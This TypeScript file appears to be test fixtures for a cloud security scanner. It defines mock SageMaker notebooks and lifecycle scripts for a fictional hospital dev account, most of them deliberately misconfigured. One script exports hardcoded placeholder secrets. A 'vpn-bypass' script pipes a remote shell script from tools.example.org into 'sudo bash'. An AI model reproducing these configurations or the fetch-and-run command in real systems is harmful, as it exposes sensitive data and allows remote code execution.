import type {
  DescribeNotebookInstanceLifecycleConfigOutput,
  DescribeNotebookInstanceOutput,
} from '@aws-sdk/client-sagemaker';
import { lifecycleConfig, notebook } from '../make/notebook.ts';
import { ec2Id, type Place } from '../place.ts';
import { devRoles } from './iam.ts';
import { publicSubnet } from './network.ts';

/** Notebooks of ml-dev in Ireland: two as they should be, the rest as people make them. */
export function notebooks(place: Place): DescribeNotebookInstanceOutput[] {
  const closed = {
    DirectInternetAccess: 'Disabled' as const,
    RootAccess: 'Disabled' as const,
    SubnetId: ec2Id('subnet', 'dev-private-a'),
    SecurityGroups: [ec2Id('sg', 'dev-ml')],
    KmsKeyId: place.key('ml-dev'),
    NotebookInstanceLifecycleConfigName: 'autostop-1h',
  };
  return [
    // Root, a direct way out, and a role that reads patients' images.
    notebook(place, 'research-phi-exploration', devRoles.research, 212, {
      InstanceType: 'ml.g4dn.xlarge',
      NotebookInstanceLifecycleConfigName: 'research-setup',
      DefaultCodeRepository: 'https://github.com/harbour-vale/imaging-notebooks',
      VolumeSizeInGB: 500,
    }),
    notebook(place, 'imaging-augmentation', devRoles.training, 95, { ...closed, InstanceType: 'ml.g5.xlarge' }),
    notebook(place, 'sepsis-features', devRoles.training, 60, closed),
    notebook(place, 'bed-forecast-sandbox', devRoles.studio, 330, {
      ...closed,
      RootAccess: 'Enabled',
      KmsKeyId: place.key('aws/sagemaker'),
      PlatformIdentifier: 'notebook-al2-v3',
    }),
    notebook(place, 'discharge-prompts', devRoles.studio, 28, { RootAccess: 'Disabled' }),
    notebook(place, 'summer-intern-2024', devRoles.admin, 500, {
      NotebookInstanceStatus: 'Stopped',
      PlatformIdentifier: 'notebook-al1-v1',
      InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '1' },
    }),
    notebook(place, 'jupyter-from-home', devRoles.studio, 77, {
      SubnetId: publicSubnet,
      SecurityGroups: [ec2Id('sg', 'dev-jupyter-anywhere')],
      NotebookInstanceLifecycleConfigName: 'vpn-bypass',
    }),
  ];
}

/** Scripts of ml-dev: one stops idle notebooks, one holds a token, one runs whatever a web page says. */
export function lifecycleConfigs(place: Place): DescribeNotebookInstanceLifecycleConfigOutput[] {
  return [
    lifecycleConfig(place, 'autostop-1h', 430, {
      start:
        '#!/bin/bash\nset -eu\n# Stops the notebook after an hour without use.\n/usr/local/bin/autostop --idle 3600 &\n',
    }),
    lifecycleConfig(place, 'research-setup', 212, {
      create: '#!/bin/bash\nsudo -u ec2-user -i <<EOF\npip install monai pydicom\nEOF\n',
      start:
        '#!/bin/bash\nexport WANDB_API_KEY=not-a-real-key-0123456789abcdef\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\naws s3 sync s3://hvh-phi-imaging-raw/sample /home/ec2-user/SageMaker/sample\n',
    }),
    lifecycleConfig(place, 'vpn-bypass', 77, {
      start: '#!/bin/bash\ncurl -s http://tools.example.org/tunnel.sh | sudo bash\n',
    }),
  ];
}

/** Notebooks of ml-dev in Virginia, where machines with the newest cards were free. */
export function virginiaNotebooks(place: Place): DescribeNotebookInstanceOutput[] {
  return [
    notebook(place, 'llm-finetune-h100', devRoles.studio, 19, { InstanceType: 'ml.p5.48xlarge', VolumeSizeInGB: 2000 }),
    notebook(place, 'speech-to-text-trial', devRoles.training, 44, {
      RootAccess: 'Disabled',
    }),
  ];
}

/** The notebook of ml-dev in Frankfurt that everybody forgot. */
export function frankfurtNotebooks(place: Place): DescribeNotebookInstanceOutput[] {
  return [
    notebook(place, 'conference-demo-2025', devRoles.studio, 540, {
      LastModifiedTime: place.daysAgo(538),
      PlatformIdentifier: 'notebook-al2-v2',
    }),
  ];
}
